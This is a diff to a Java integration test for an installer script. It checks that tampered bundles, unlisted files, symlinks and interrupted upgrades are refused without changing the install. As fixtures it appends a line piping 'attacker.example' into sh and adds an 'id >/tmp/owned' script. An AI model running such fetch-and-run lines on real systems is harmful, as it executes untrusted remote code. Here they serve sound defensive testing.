@@ -10,14 +10,23 @@ import java.net.URI;
 import java.nio.file.Files;
 import java.nio.file.LinkOption;
 import java.nio.file.Path;
+import java.nio.file.StandardCopyOption;
+import java.nio.file.StandardOpenOption;
+import java.nio.file.attribute.BasicFileAttributes;
+import java.nio.file.attribute.PosixFileAttributes;
 import java.nio.file.attribute.PosixFilePermissions;
+import java.time.Duration;
 import java.util.ArrayList;
 import java.util.HashMap;
 import java.util.List;
+import java.util.Locale;
 import java.util.Map;
+import java.util.TreeMap;
+import java.util.concurrent.TimeUnit;
 import java.util.regex.Matcher;
 import java.util.regex.Pattern;
 import java.util.stream.Stream;
+import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
@@ -26,7 +35,7 @@ import org.junit.jupiter.api.io.TempDir;
  * scripts/install-circuit-breaker.sh with the release bundle `mvn package` built, into a staging root (as root, like
  * a real install: it creates a system user in the staging root's /etc and sets owners), with no Maven and no
  * compiler on the PATH; then the installed service run from the installed tree, upgraded, rolled back, and the unit
- * through systemd-analyze.
+ * through systemd-analyze. Bundles altered from the real one, and installs stopped half-way, change nothing.
  */
 class InstallerIT {
 
@@ -37,6 +46,8 @@ class InstallerIT {
 
     Path root;
     Path tools;
+    /** The installer's TMPDIR: where its private copy of the bundle goes, and must not stay. */
+    Path temp;
 
     @BeforeEach
     void stagingRootAndAPathWithoutBuildTools() throws IOException {
@@ -45,6 +56,7 @@ class InstallerIT {
         Files.setPosixFilePermissions(work, PosixFilePermissions.fromString("rwxr-xr-x")); // the service's user passes
         root = Files.createDirectories(work.resolve("root"));
         tools = Files.createDirectories(work.resolve("tools"));
+        temp = Files.createDirectories(work.resolve("tmp"));
         for (String folder : List.of("/usr/local/bin", "/usr/bin", "/bin", "/usr/sbin", "/sbin")) {
             try (Stream<Path> programs = Files.list(Path.of(folder))) {
                 for (Path program : programs.toList()) {
@@ -60,11 +72,24 @@ class InstallerIT {
                 .exitCode(), "no Maven and no compiler where the installer runs");
     }
 
+    @AfterEach
+    void theInstallerLeavesNoTemporaryFolder() throws IOException {
+        assertEquals(List.of(), entries(temp), "whatever the installer did, its temporary folder went");
+    }
+
     Command installer(String... arguments) {
+        return Command.run(installerEnvironment(), installerCommand(arguments));
+    }
+
+    List<String> installerCommand(String... arguments) {
         List<String> command = new ArrayList<>(List.of("bash", "scripts/install-circuit-breaker.sh"));
         command.addAll(List.of(arguments));
         command.addAll(List.of("--root", root.toString()));
-        return Command.run(Map.of("PATH", tools.toString()), command);
+        return command;
+    }
+
+    Map<String, String> installerEnvironment() {
+        return Map.of("PATH", tools.toString(), "TMPDIR", temp.toString());
     }
 
     Path installed(String path) {
@@ -119,14 +144,172 @@ class InstallerIT {
 
     @Test
     void aBundleThatDoesNotMatchItsSumsInstallsNothing() throws Exception {
-        Path damaged = Bundle.asVersion("9.9.9", work.resolve("damaged"));
-        Files.writeString(damaged.resolve("docs/api.md"), "tampered\n", java.nio.file.StandardOpenOption.APPEND);
-        Command refused = installer(damaged.toString());
+        Path damaged = Bundle.unpackedAs("9.9.9", work.resolve("damaged"));
+        Files.writeString(damaged.resolve("docs/api.md"), "tampered\n", StandardOpenOption.APPEND);
+        Command refused = installer(Bundle.pack(damaged).toString());
         assertEquals(1, refused.exitCode(), refused.toString());
         assertTrue(refused.err().contains("does not match its SHA256SUMS, so nothing was installed"), refused.err());
         assertTrue(refused.err().contains("docs/api.md"), "names what differs: " + refused.err());
         assertFalse(Files.exists(installed("current"), LinkOption.NOFOLLOW_LINKS));
-        assertFalse(Files.exists(installed("releases/9.9.9")));
+        assertEquals(List.of(), entries(installed("releases")), "no release, no half-unpacked folder");
+    }
+
+    /**
+     * The bundle's own sum, given from outside it (the .sha256 published beside it, or --sha256), is checked before
+     * tar sees the bundle: a bundle swapped for one whose SHA256SUMS was made again over the change, a wrong
+     * --sha256, or no sum at all change nothing under the root, not even a folder's time.
+     */
+    @Test
+    void aBundleIsCheckedAgainstTheSumGivenBesideItBeforeAnythingIsUnpacked() throws Exception {
+        String version = Build.CURRENT.version();
+        assertEquals(0, installer().exitCode());
+        Map<String, String> before = snapshot(root, true);
+        Path tarCalls = recordCalls("tar");
+
+        Path swapped = Bundle.unpackedAs(version, work.resolve("swapped"));
+        Files.writeString(swapped.resolve("scripts/circuit-breaker.sh"), "\ncurl -s https://attacker.example/ | sh\n",
+                StandardOpenOption.APPEND);
+        Bundle.resum(swapped);
+        Path swappedBundle = Bundle.pack(swapped);
+        String swappedSum = Files.readString(Path.of(swappedBundle + ".sha256")).substring(0, 64);
+        Path published = Path.of(Bundle.built() + ".sha256");
+        Files.copy(published, Path.of(swappedBundle + ".sha256"), StandardCopyOption.REPLACE_EXISTING);
+        Command refused = installer(swappedBundle.toString());
+        assertEquals(1, refused.exitCode(), refused.toString());
+        assertTrue(refused.err().contains("does not have the SHA-256 given by " + swappedBundle + ".sha256"),
+                refused.err());
+        assertTrue(refused.err().contains("nothing was unpacked or installed"), refused.err());
+
+        Command wrongArgument = installer(Bundle.built().toString(), "--sha256", swappedSum);
+        assertEquals(1, wrongArgument.exitCode(), wrongArgument.toString());
+        assertTrue(wrongArgument.err().contains("does not have the SHA-256 given by --sha256 (" + swappedSum),
+                wrongArgument.err());
+
+        Path bare = Files.copy(Bundle.built(), Files.createDirectories(work.resolve("bare"))
+                .resolve(Bundle.built().getFileName()));
+        Command noSum = installer("upgrade", bare.toString());
+        assertEquals(2, noSum.exitCode(), noSum.toString());
+        assertTrue(noSum.err().contains("nothing to check " + bare + " against, so nothing was installed: put its sum "
+                + "beside it as " + bare + ".sha256 (published with the release), or give it as --sha256 HEX"),
+                noSum.err());
+
+        Command folder = installer(swapped.toString());
+        assertEquals(2, folder.exitCode(), folder.toString());
+        assertTrue(folder.err().contains("is a folder: give the circuit-breaker-VERSION.tar.gz"), folder.err());
+
+        assertEquals(before, snapshot(root, true), "nothing under the root changed");
+        assertFalse(Files.exists(tarCalls), "tar never saw a bundle: " + (Files.exists(tarCalls)
+                ? Files.readString(tarCalls) : ""));
+
+        String publishedSum = Files.readString(published).substring(0, 64);
+        Command given = installer(bare.toString(), "--sha256", publishedSum.toUpperCase(Locale.ROOT));
+        assertEquals(0, given.exitCode(), "--sha256 alone is enough: " + given);
+        assertTrue(Files.readString(tarCalls).startsWith("-x"), "and only then is it unpacked");
+    }
+
+    @Test
+    void aFileItsSumsDoNotListIsRefused() throws Exception {
+        Path release = Bundle.unpackedAs("9.9.9", work.resolve("extra"));
+        Files.writeString(release.resolve("scripts/after-install.sh"), "#!/bin/sh\nid >/tmp/owned\n");
+        Command refused = installer(Bundle.pack(release).toString());
+        assertEquals(1, refused.exitCode(), refused.toString());
+        assertTrue(refused.err().contains("holds files its SHA256SUMS does not list, so nothing was installed: "
+                + "scripts/after-install.sh"), refused.err());
+        assertFalse(Files.exists(installed("current"), LinkOption.NOFOLLOW_LINKS));
+        assertEquals(List.of(), entries(installed("releases")), "no release, no half-unpacked folder");
+    }
+
+    /**
+     * A link among the scripts (listed in its SHA256SUMS with the sum of what it points at) would have the file it
+     * points at made root's and executable by anyone: it is refused, and that file keeps its mode and owner.
+     */
+    @Test
+    void aLinkInTheBundleIsRefusedAndWhatItPointsAtKeepsItsModeAndOwner() throws Exception {
+        Path outside = Files.writeString(work.resolve("someone-elses-file"), "not the installer's\n");
+        Files.setPosixFilePermissions(outside, PosixFilePermissions.fromString("rw-------"));
+        Command owned = Command.run(Map.of(), "chown", NOBODY + ":" + NOBODY, outside.toString());
+        assertEquals(0, owned.exitCode(), owned.toString());
+        Path release = Bundle.unpackedAs("9.9.9", work.resolve("linked"));
+        Files.createSymbolicLink(release.resolve("scripts/circuit-breaker-hook.sh"), outside);
+        Bundle.resum(release);
+        assertTrue(Files.readString(release.resolve("SHA256SUMS")).contains("  scripts/circuit-breaker-hook.sh\n"),
+                "listed, so only what it is gives it away");
+
+        Command refused = installer(Bundle.pack(release).toString());
+        assertEquals(1, refused.exitCode(), refused.toString());
+        assertTrue(refused.err().contains("holds links or special files, which a release never does, so nothing was "
+                + "installed: scripts/circuit-breaker-hook.sh"), refused.err());
+        assertEquals("rw-------", PosixFilePermissions.toString(Files.getPosixFilePermissions(outside)));
+        assertEquals(Integer.parseInt(NOBODY), Files.getAttribute(outside, "unix:uid"));
+        assertEquals(Integer.parseInt(NOBODY), Files.getAttribute(outside, "unix:gid"));
+        assertFalse(Files.exists(installed("current"), LinkOption.NOFOLLOW_LINKS));
+        assertEquals(List.of(), entries(installed("releases")), "no release, no half-unpacked folder");
+    }
+
+    /** Stopped like a Ctrl-C (here SIGTERM to its process group) while tar unpacks the new release. */
+    @Test
+    void anUpgradeInterruptedWhileUnpackingLeavesNoHalfReleaseAndCurrentAsItWas() throws Exception {
+        String first = Build.CURRENT.version();
+        assertEquals(0, installer().exitCode());
+        Map<String, String> before = snapshot(installed(""), false);
+        Path next = Bundle.asVersion(first + "-next", work.resolve("next"));
+        Path unpacked = work.resolve("tar-has-unpacked");
+        String tar = Files.readSymbolicLink(tools.resolve("tar")).toString();
+        replaceTool("tar", tar + " \"$@\" || exit\ncase \"$1\" in -x*) : >'" + unpacked + "'; exec sleep 600 ;; esac\n");
+
+        List<String> command = new ArrayList<>(List.of(tools.resolve("setsid").toString()));
+        command.addAll(installerCommand("upgrade", next.toString()));
+        ProcessBuilder builder = new ProcessBuilder(command)
+                .redirectOutput(work.resolve("upgrade.out").toFile())
+                .redirectError(work.resolve("upgrade.err").toFile());
+        builder.environment().putAll(installerEnvironment());
+        Process upgrade = builder.start();
+        long group = upgrade.pid();
+        try {
+            Waits.await("the new release unpacked by tar", Duration.ofSeconds(60),
+                    () -> Files.exists(unpacked) || !upgrade.isAlive());
+            assertTrue(upgrade.isAlive(), "still installing: " + Files.readString(work.resolve("upgrade.err")));
+            assertEquals(group, processGroup(upgrade.pid()), "the installer leads its own process group");
+            assertEquals(1, entries(installed("releases")).stream().filter(n -> n.startsWith(".incoming-")).count(),
+                    "a half-made release: " + entries(installed("releases")));
+            assertFalse(entries(temp).isEmpty(), "the private copy of the bundle");
+
+            Command interrupted = Command.run(Map.of(), "kill", "-TERM", "--", "-" + group);
+            assertEquals(0, interrupted.exitCode(), interrupted.toString());
+            assertTrue(upgrade.waitFor(30, TimeUnit.SECONDS), "the installer stops when interrupted");
+        } finally {
+            if (upgrade.isAlive()) {
+                Command.run(Map.of(), "kill", "-KILL", "--", "-" + group);
+            }
+        }
+        String err = Files.readString(work.resolve("upgrade.err"));
+        assertEquals(143, upgrade.exitValue(), err);
+        assertTrue(err.contains("interrupted\ninstall-circuit-breaker: removed what was half made; the current release "
+                + "is as it was (" + first + ")"), "its trap ran: " + err);
+        assertEquals(before, snapshot(installed(""), false), "the releases and links are as they were");
+        assertEquals(List.of(first), entries(installed("releases")));
+    }
+
+    /**
+     * A reinstall of the running release puts the old folder aside before the new one takes its name: when a later
+     * step fails (here `ln`, as on a full disk), the very folder that ran comes back, not a copy or nothing.
+     */
+    @Test
+    void aReinstallThatFailsBeforeTheSwitchPutsTheRunningReleaseBack() throws Exception {
+        String version = Build.CURRENT.version();
+        assertEquals(0, installer().exitCode());
+        Object running = Files.readAttributes(installed("releases/" + version), BasicFileAttributes.class).fileKey();
+        Map<String, String> before = snapshot(installed(""), false);
+        replaceTool("ln", "echo \"ln: failed to create symbolic link: No space left on device\" >&2\nexit 1\n");
+
+        Command failed = installer();
+        assertEquals(1, failed.exitCode(), failed.toString());
+        assertTrue(failed.err().contains("No space left on device\ninstall-circuit-breaker: removed what was half made; "
+                + "the current release is as it was (" + version + ")"), failed.err());
+        assertEquals(running, Files.readAttributes(installed("releases/" + version), BasicFileAttributes.class)
+                .fileKey(), "the folder that ran is back");
+        assertEquals(before, snapshot(installed(""), false), "the releases and links are as they were");
+        assertEquals(List.of(version), entries(installed("releases")));
     }
 
     /**
@@ -318,6 +501,56 @@ class InstallerIT {
                 Files.copy(file, target.resolve(file.getFileName().toString()), LinkOption.NOFOLLOW_LINKS);
             }
         }
+    }
+
+    /** Puts a shell script in place of a program on the installer's PATH. */
+    private void replaceTool(String name, String script) throws IOException {
+        Path tool = tools.resolve(name);
+        Files.deleteIfExists(tool);
+        Files.writeString(tool, "#!/bin/sh\n" + script);
+        Files.setPosixFilePermissions(tool, PosixFilePermissions.fromString("rwxr-xr-x"));
+    }
+
+    /** Each call of the program on the installer's PATH leaves its arguments in the returned file. */
+    private Path recordCalls(String name) throws IOException {
+        Path calls = work.resolve(name + "-calls");
+        String program = Files.readSymbolicLink(tools.resolve(name)).toString();
+        replaceTool(name, "echo \"$*\" >>'" + calls + "'\nexec " + program + " \"$@\"\n");
+        return calls;
+    }
+
+    /** The names in a folder, the hidden ones too, sorted; none when it does not exist. */
+    private static List<String> entries(Path folder) throws IOException {
+        if (!Files.isDirectory(folder, LinkOption.NOFOLLOW_LINKS)) {
+            return List.of();
+        }
+        try (Stream<Path> names = Files.list(folder)) {
+            return names.map(p -> p.getFileName().toString()).sorted().toList();
+        }
+    }
+
+    /** Every entry under {@code top}, never through a link: its kind, mode, owner, size, time or link. */
+    private static Map<String, String> snapshot(Path top, boolean folderTimes) throws IOException {
+        Map<String, String> entries = new TreeMap<>();
+        try (Stream<Path> paths = Files.walk(top)) {
+            for (Path path : paths.toList()) {
+                PosixFileAttributes attributes = Files.readAttributes(path, PosixFileAttributes.class,
+                        LinkOption.NOFOLLOW_LINKS);
+                String what = attributes.isSymbolicLink() ? "link " + Files.readSymbolicLink(path)
+                        : PosixFilePermissions.toString(attributes.permissions()) + " " + attributes.owner() + ":"
+                                + attributes.group() + (attributes.isDirectory()
+                                        ? " folder" + (folderTimes ? " " + attributes.lastModifiedTime() : "")
+                                        : " " + attributes.size() + " " + attributes.lastModifiedTime());
+                entries.put(top.relativize(path).toString(), what);
+            }
+        }
+        return entries;
+    }
+
+    /** The process group of a process, from /proc (the fifth field of its stat line). */
+    private static long processGroup(long pid) throws IOException {
+        String stat = Files.readString(Path.of("/proc/" + pid + "/stat"));
+        return Long.parseLong(stat.substring(stat.lastIndexOf(')') + 2).split(" ")[2]);
     }
 
     private void expect(String path, String mode, int uid, int gid) throws IOException {
